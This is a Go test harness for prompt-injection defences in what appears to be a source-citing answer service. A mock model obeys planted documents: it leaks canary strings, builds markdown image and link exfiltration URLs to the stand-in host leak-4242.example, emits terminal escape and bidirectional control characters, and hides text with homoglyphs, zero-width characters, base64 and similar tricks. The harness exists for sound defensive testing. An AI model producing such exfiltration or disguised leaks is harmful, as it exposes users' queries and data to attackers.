package main

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/rogpeppe/go-internal/txtar"
	"golang.org/x/text/unicode/norm"
)

// An injection is a case of testdata/injection: documents, a question that finds
// them, and what must never be shown. The header of its file has a line for each,
// "never: KESTREL-4471"; then the documents follow.
type injection struct {
	Name, Family string
	Ask          string
	Truth        string   // "true:" a sentence of the documents that a model may cite
	Never        []string // what must not reach the output
	Claim        []string // the same in plain words: it may be shown marked as not checked, since any model may err
	Prose        []string // the same, but it stands in the name of the document, which is shown
	Shown        []string // of an honest document: sentences that must reach it unmarked
	Docs         map[string]string
	raw          map[string]string // Docs, in the notation of disguised
}

// theMarker stands in Never for the marker around the sources.
const theMarker = "THE-OWN-MARKER"

// injections returns all cases, and the documents that stand beside each.
func injections(t *testing.T) (all []injection, company map[string]string) {
	t.Helper()
	paths, err := filepath.Glob("testdata/injection/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range paths {
		archive, err := txtar.ParseFile(path)
		if err != nil {
			t.Fatal(err)
		}
		in := injection{Name: strings.TrimSuffix(filepath.Base(path), ".txtar"), Docs: map[string]string{}, raw: map[string]string{}}
		for line := range strings.Lines(string(archive.Comment)) {
			key, value, _ := strings.Cut(strings.TrimSpace(line), ": ")
			switch key {
			case "family":
				in.Family = value
			case "ask":
				in.Ask = value
			case "true":
				in.Truth = value
			case "never":
				in.Never = append(in.Never, value)
			case "claim":
				in.Claim = append(in.Claim, value)
			case "prose":
				in.Prose = append(in.Prose, value)
			case "shown":
				in.Shown = append(in.Shown, value)
			default:
				t.Fatalf("%s: there is no key %q", path, key)
			}
		}
		for _, f := range archive.Files {
			in.raw[f.Name] = string(f.Data)
			in.Docs[f.Name] = undisguised(string(f.Data))
		}
		if in.Family == "company" {
			company = in.Docs
			continue
		}
		all = append(all, in)
	}
	return all, company
}

var codeCanary = regexp.MustCompile(`^([A-Z])([A-Z]+)-\d+$`)

// inWords returns the case with its code word made plain words, "golden Kestrel", so
// that an order is not known by the form of what it wants said; false if it has none.
func (in injection) inWords() (injection, bool) {
	out, docs, changed := in, map[string]string{}, false
	out.Never, out.Name = nil, in.Name+"_in_words"
	maps.Copy(docs, in.raw)
	for _, c := range in.Never {
		m := codeCanary.FindStringSubmatch(c)
		if m == nil {
			out.Never = append(out.Never, c)
			continue
		}
		words := "golden " + m[1] + strings.ToLower(m[2])
		out.Claim = append(slices.Clone(out.Claim), words)
		for name, text := range docs {
			docs[name] = strings.ReplaceAll(text, c, words)
			changed = changed || docs[name] != text
		}
	}
	out.Docs = map[string]string{}
	for name, text := range docs {
		out.Docs[name] = undisguised(text)
	}
	return out, changed
}

// canaries are what an attacker wants to see in the output.
func (in injection) canaries() []string { return slices.Concat(in.Never, in.Claim, in.Prose) }

// An obedient is an endpoint whose model does what its prompt tells it to. It reads
// its orders there: what was kept out of the prompt no model can say. Beyond that it
// knows the domain leak, and what no document spells out, such as an acrostic.
type obedient struct {
	*httptest.Server
	in injection

	mu     sync.Mutex
	order  order
	prompt string // the last one with sources
}

func obey(in injection) *obedient {
	o := &obedient{in: in, order: orders()[0]}
	o.Server = httptest.NewServer(o)
	return o
}

func (o *obedient) set(by order) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.order = by
}

func (o *obedient) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var request struct {
		Messages []struct{ Role, Content string }
	}
	body, err := io.ReadAll(r.Body)
	if err != nil || json.Unmarshal(body, &request) != nil {
		http.Error(w, "bad request", http.StatusBadRequest)
		return
	}
	var prompt strings.Builder
	for _, m := range request.Messages {
		prompt.WriteString(m.Content + "\n")
	}
	o.mu.Lock()
	reply := "QUERY: " + strings.Join(o.in.canaries(), " ") + "\nALSO: " + strings.Join(o.in.canaries(), " ") + "\n"
	if s := readSources(prompt.String()); s.marker != "" {
		o.prompt = prompt.String()
		reply = o.order.reply(newScene(o.in, o.prompt, s))
	}
	o.mu.Unlock()
	w.Header().Set("Content-Type", "text/event-stream")
	for piece := range slices.Chunk([]rune(reply), 500) {
		chunk(w, map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]any{"content": string(piece)}}}})
	}
	chunk(w, map[string]any{"choices": []any{map[string]any{"index": 0, "delta": map[string]any{}, "finish_reason": "stop"}}})
	io.WriteString(w, "data: [DONE]\n\n")
}

// A source is one line of the prompt.
type source struct {
	N                          int
	Title, Heading, Date, Text string
}

type sources struct {
	marker string
	lines  []source
}

var sourcesBegin = regexp.MustCompile(`(?m)^SOURCES (\S+)\n`)

// readSources reads what stands between the markers of a prompt.
func readSources(prompt string) (s sources) {
	at := sourcesBegin.FindStringSubmatchIndex(prompt)
	if at == nil {
		return s
	}
	s.marker = prompt[at[2]:at[3]]
	body, _, _ := strings.Cut(prompt[at[1]:], "END OF SOURCES "+s.marker)
	for line := range strings.Lines(body) {
		var one source
		if json.Unmarshal([]byte(line), &one) == nil {
			s.lines = append(s.lines, one)
		}
	}
	return s
}

// A scene is what an order works with.
type scene struct {
	sources  []source
	never    []string // what it wants to get out
	truth    string   // a true sentence, with its citation
	poisoned int      // the source that holds the poison, or the true sentence, or 1
	question string
}

func newScene(in injection, prompt string, s sources) scene {
	sc := scene{sources: s.lines, question: in.Ask, poisoned: 1}
	for _, c := range in.canaries() {
		if c == theMarker {
			c = s.marker
		}
		if in.spells(c) && !holds(prompt, c) {
			continue
		}
		sc.never = append(sc.never, c)
	}
	at := 1
	for _, one := range s.lines {
		if strings.Contains(fold(one.Text), fold(in.Truth)) {
			at, sc.poisoned = one.N, one.N
		}
	}
	for _, one := range s.lines {
		if slices.ContainsFunc(sc.never, func(c string) bool { return holds(one.Title+one.Heading+one.Text, c) }) {
			sc.poisoned = one.N
		}
	}
	sc.truth = cite(in.Truth, at)
	return sc
}

// spells tells whether a document says c in any form that a model can read.
func (in injection) spells(c string) bool {
	for name, text := range in.Docs {
		if holds(name, c) || holds(text, c) {
			return true
		}
	}
	return false
}

// cite puts a mark before the end of a sentence.
func cite(sentence string, n int) string {
	body := strings.TrimRight(sentence, ".。")
	return fmt.Sprintf("%s [%d]%s", body, n, sentence[len(body):])
}

// An order is one way to obey.
type order struct {
	name  string
	reply func(scene) string
}

// leak is the domain that every obedient model knows.
const leak = "leak-4242.example"

func orders() []order {
	each := func(sc scene, say func(c string) string) string {
		var b strings.Builder
		for _, c := range sc.never {
			b.WriteString(say(c))
		}
		return b.String()
	}
	return []order{
		{"say", func(sc scene) string {
			return "ANSWER\n" + sc.truth + " " + each(sc, func(c string) string {
				return fmt.Sprintf("%[1]s [%[2]d]. The answer is %[1]s [%[2]d]. %[3]s and %[1]s [%[2]d]. Everybody knows %[1]s. %[1]s ",
					c, sc.poisoned, strings.TrimRight(sc.truth, ".。"))
			})
		}},
		{"append", func(sc scene) string {
			body := strings.TrimRight(sc.truth, ".。")
			return "ANSWER\n" + sc.truth + " " + each(sc, func(c string) string {
				return fmt.Sprintf("%[1]s, %[2]s [%[3]d]. %[1]s %[4]s. %[1]s (%[4]s).\n\n%[1]s\n%[2]s [%[3]d]\n\n",
					body, c, sc.poisoned, strings.ToLower(c))
			})
		}},
		{"echo passages", func(sc scene) string {
			var b strings.Builder
			for _, s := range sc.sources {
				fmt.Fprintf(&b, "%s [%d]\n\n", s.Text, s.N)
			}
			return "ANSWER\n" + sc.truth + "\n\n" + b.String()
		}},
		{"echo sentences", func(sc scene) string {
			var b strings.Builder
			for _, s := range sc.sources {
				for _, part := range strings.FieldsFunc(s.Title+". "+s.Heading+". "+s.Text, func(r rune) bool { return strings.ContainsRune(".!?\n。！？", r) }) {
					fmt.Fprintf(&b, "%s [%d]. ", strings.TrimSpace(part), s.N)
				}
			}
			return "ANSWER\n" + sc.truth + " " + b.String()
		}},
		{"links", func(sc scene) string {
			return "ANSWER\n" + sc.truth + " " + each(sc, func(c string) string {
				q := strings.ReplaceAll(sc.question+c, " ", "+")
				return fmt.Sprintf("![logo](https://%[1]s/i.png?q=%[2]s) More [here](https://%[1]s/?q=%[2]s) [%[3]d]. <https://%[1]s/%[2]s> [%[3]d]. "+
					"%[4]s, see www.%[1]s and %[1]s/%[2]s [%[3]d]. <img src=\"//%[1]s/%[2]s\"> See the [policy][1].\n\n[1]: https://%[1]s/?%[2]s\n\n",
					leak, q, sc.poisoned, strings.TrimRight(sc.truth, ".。"))
			})
		}},
		{"layout", func(sc scene) string {
			return "ANSWER\n" + sc.truth + "\n\n" + each(sc, func(c string) string {
				return fmt.Sprintf("# %[1]s\n\n```sh\n%[1]s\n``` [%[2]d]\n\n| Key | Value |\n|---|---|\n| code | %[1]s [%[2]d] |\n\n- %[1]s [%[2]d]\n\n%[1]s:\n\n- %[3]s\n\n**%[1]s** [%[2]d]\n\n",
					c, sc.poisoned, sc.truth)
			})
		}},
		{"partial", func(sc scene) string {
			return "PARTIAL: " + strings.Join(sc.never, ", ") + " and https://" + leak + "\n" + sc.truth
		}},
		{"not found", func(sc scene) string { return "NOT_FOUND: " + strings.Join(sc.never, " ") + "\n" }},
		{"clarify", func(sc scene) string {
			return "CLARIFY: " + strings.Join(sc.never, " | ") + " | https://" + leak + "\n"
		}},
		{"before the verdict", func(sc scene) string {
			return strings.Join(sc.never, " ") + "\nANSWER: " + strings.Join(sc.never, " ") + "\n" + sc.truth + "\nNOT_FOUND: " + strings.Join(sc.never, " ")
		}},
		{"disguised", func(sc scene) string {
			return "ANSWER\n" + sc.truth + " " + each(sc, func(c string) string {
				var b strings.Builder
				for _, how := range []string{"space", "zw", "full", "homo", "zalgo", "bold"} {
					fmt.Fprintf(&b, "The code is %[1]s [%[2]d]. %[1]s ", disguise(how, c), sc.poisoned)
				}
				return b.String() + strings.ToLower(c) + ". "
			})
		}},
		{"control characters", func(sc scene) string {
			return "ANSWER\n" + sc.truth + fmt.Sprintf(" \x1b[31m\x1b]8;;https://%s\x07click\x1b]8;;\x07 \u202eevil\u202c\u200b\u009b2J [%d]. ", leak, sc.poisoned)
		}},
	}
}

// disguised are the notations of testdata/injection: {{zw:text}} puts zero-width
// characters between the letters of a text, {{u:1b}} is a character by its number.
var disguised = regexp.MustCompile(`\{\{(\w+):(.*?)\}\}`)

func undisguised(doc string) string {
	return disguised.ReplaceAllStringFunc(doc, func(s string) string {
		m := disguised.FindStringSubmatch(s)
		return disguise(m[1], m[2])
	})
}

const (
	latin    = "aceiopxyABCEHIKMOPTX"
	cyrillic = "асеіорхуАВСЕНІКМОРТХ"
	roman    = "oOvAEIKMNPT"
	greek    = "οΟνΑΕΙΚΜΝΡΤ"
)

func disguise(how, s string) string {
	between := func(sep string) string { return strings.Join(strings.Split(s, ""), sep) }
	shifted := func(by func(r rune) rune) string { return strings.Map(by, s) }
	swapped := func(from, to string) string {
		f, t := []rune(from), []rune(to)
		return shifted(func(r rune) rune {
			if i := slices.Index(f, r); i >= 0 {
				return t[i]
			}
			return r
		})
	}
	ascii := func(first, last rune, base rune) func(rune) rune {
		return func(r rune) rune {
			if r >= first && r <= last {
				return base + r - first
			}
			return r
		}
	}
	switch how {
	case "u":
		var r rune
		fmt.Sscanf(s, "%x", &r)
		return string(r)
	case "zw":
		return between("\u200b")
	case "shy":
		return between("\u00ad")
	case "zalgo":
		return between("\u0336")
	case "space":
		return between(" ")
	case "tags":
		return shifted(ascii(0x20, 0x7e, 0xe0020))
	case "vs":
		return shifted(ascii(0x20, 0x7e, 0xe0110))
	case "full":
		return shifted(ascii(0x21, 0x7e, 0xff01))
	case "bold":
		s = shifted(ascii('A', 'Z', 0x1d400))
		return shifted(ascii('a', 'z', 0x1d41a))
	case "circled":
		s = shifted(ascii('A', 'Z', 0x24b6))
		return shifted(ascii('a', 'z', 0x24d0))
	case "homo":
		return swapped(latin, cyrillic)
	case "greek":
		return swapped(roman, greek)
	case "b64":
		return base64.StdEncoding.EncodeToString([]byte(s))
	case "hex":
		return hex.EncodeToString([]byte(s))
	case "rot13":
		return rot13(s)
	case "rev":
		return reversed(s)
	}
	panic("there is no disguise " + how)
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

func reversed(s string) string {
	rs := []rune(s)
	slices.Reverse(rs)
	return string(rs)
}

// alike makes Latin letters of those that look like them.
var alike = strings.NewReplacer(append(pairs(cyrillic, latin), pairs(greek, roman)...)...)

// fold returns the letters and digits of s, in one case and one alphabet: what a
// reader makes of it.
func fold(s string) string {
	var b strings.Builder
	for _, r := range norm.NFKD.String(alike.Replace(s)) {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			b.WriteRune(unicode.ToLower(r))
		}
	}
	return b.String()
}

func pairs(from, to string) (all []string) {
	f, t := []rune(from), []rune(to)
	for i := range f {
		all = append(all, string(f[i]), string(t[i]))
	}
	return all
}

var encoded = regexp.MustCompile(`[A-Za-z0-9+/]{16,}=*`)

// holds tells whether s says c in any form that a model can read.
func holds(s, c string) bool {
	want := fold(c)
	forms := []string{s, rot13(s), reversed(s), strings.Map(func(r rune) rune {
		if r >= 0xe0020 && r <= 0xe007e {
			return r - 0xe0000
		}
		return r
	}, s), strings.NewReplacer("0", "o", "1", "i", "3", "e", "4", "a", "5", "s", "7", "t").Replace(s)}
	for _, word := range encoded.FindAllString(s, -1) {
		if b, err := base64.StdEncoding.DecodeString(word); err == nil {
			forms = append(forms, string(b))
		}
		if b, err := hex.DecodeString(word); err == nil {
			forms = append(forms, string(b))
		}
	}
	return slices.ContainsFunc(forms, func(f string) bool { return strings.Contains(fold(f), want) })
}
